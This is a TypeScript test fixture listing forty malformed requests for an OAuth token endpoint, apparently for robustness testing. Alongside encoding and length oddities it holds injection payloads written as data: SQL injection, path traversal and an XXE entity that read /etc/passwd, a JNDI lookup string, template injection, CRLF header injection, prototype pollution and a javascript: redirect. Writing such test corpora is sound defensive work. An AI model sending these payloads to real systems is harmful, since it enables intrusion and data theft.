/**
 * A request that no client sends. `fields` is the raw text of a form behind right credentials and grant type; `body`
 * stands for a whole body. What is in braces is filled in, so that the data stay readable.
 */
export interface MalformedRequest {
  readonly what: string
  readonly fields?: string
  readonly body?: string | Uint8Array
  readonly contentType?: string
  readonly headers?: Readonly<Record<string, string>>
}

const binary = Uint8Array.from({ length: 256 }, (_, octet) => octet)
const long = (length: number) => 'A'.repeat(length)
const many = (count: number, field: (index: number) => string) =>
  Array.from({ length: count }, (_, at) => field(at)).join('&')

/** Forty of them: encodings, lengths, structure, media types, and what attackers paste into any field. */
export const malformedCorpus: readonly MalformedRequest[] = [
  { what: 'NUL in code', fields: 'code=%00' },
  { what: 'code that is no UTF-8', fields: 'code=%FF%FE' },
  { what: 'code in overlong UTF-8', fields: 'code=%C0%AE%C0%AE' },
  { what: 'a lone surrogate in code', fields: 'code=%ED%A0%80' },
  { what: 'a percent sign alone', fields: 'code=%' },
  { what: 'an escape without hexadecimal digits', fields: 'code=%zz' },
  { what: 'an escape of another language', fields: 'code=%u0041' },
  { what: 'line breaks and a header in code', fields: 'code=a%0D%0ASet-Cookie:%20a=b' },
  { what: 'octets that are not escaped', body: binary },
  { what: 'a code of 10,000 characters', fields: `code=${long(10_000)}` },
  { what: 'a code of 200,000 characters', fields: `code=${long(200_000)}` },
  { what: 'SQL in code', fields: 'code=%27%20OR%20%271%27%3D%271' },
  { what: 'a path in code', fields: 'code=..%2F..%2F..%2Fetc%2Fpasswd' },
  { what: 'a look-up in code', fields: 'code=%24%7Bjndi%3Aldap%3A%2F%2Fhost.invalid%2Fa%7D' },
  { what: 'a template in code', fields: 'code=%7B%7B7*7%7D%7D%24%7B7*7%7D' },
  { what: 'a format string in code', fields: 'code=%25s%25n%7B0%7D' },
  { what: 'a list by brackets', fields: 'code[]=a&code[]=b' },
  { what: 'a map by brackets', fields: 'code[$ne]=a' },
  { what: 'a prototype by brackets', fields: '__proto__[code]=a&constructor[prototype][code]=a' },
  { what: 'brackets nested a thousand deep', fields: `code${'[a]'.repeat(1000)}=a` },
  { what: 'a name without value', fields: 'code' },
  { what: 'a value without name', fields: '=code' },
  { what: 'separators alone', fields: '&&&&=&=&' },
  { what: 'a thousand codes', fields: many(1000, (index) => `code=${index}`) },
  { what: 'five thousand parameters', fields: many(5000, (index) => `p${index}=${index}`) },
  { what: 'a redirect_uri that is no address', fields: 'code=a&redirect_uri=http%3A%2F%2F%5B%3A%3A1' },
  { what: 'a redirect_uri of 4,000 characters', fields: `code=a&redirect_uri=https://a.example/${long(4000)}` },
  { what: 'a redirect_uri that is a script', fields: 'code=a&redirect_uri=javascript%3Aalert(1)' },
  { what: 'a code_verifier of emoji', fields: `code=a&code_verifier=${'%F0%9F%92%A5'.repeat(43)}` },
  { what: 'a scope of 4,000 characters', fields: `code=a&scope=${long(4000)}` },
  { what: 'NUL in client_id', body: 'grant_type=authorization_code&code=a&client_id=a%00b&client_secret=c' },
  {
    what: 'a client_secret of 10,000 characters',
    body: `grant_type=authorization_code&client_id=a&client_secret=${long(10_000)}`,
  },
  { what: 'a grant_type of emoji', body: 'grant_type=%F0%9F%92%A5&client_id=a&client_secret=b' },
  { what: 'no body', body: '' },
  { what: 'JSON that is called a form', body: '{"grant_type":"authorization_code","code":"a"}' },
  {
    what: 'an unfinished multipart body',
    contentType: 'multipart/form-data; boundary=x',
    body: '--x\r\nContent-Disposition: form-data; name="code',
  },
  {
    what: 'XML with an entity',
    contentType: 'application/xml',
    body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  },
  { what: 'a form that is called gzip', fields: 'code=a', headers: { 'content-encoding': 'gzip' } },
  {
    what: 'an Authorization header that is no Base64',
    body: 'grant_type=authorization_code&code=a',
    headers: { authorization: 'Basic %%%' },
  },
  {
    what: 'an Authorization header of 6,000 characters',
    body: 'grant_type=authorization_code&code=a',
    headers: { authorization: `Basic ${long(6000)}` },
  },
]
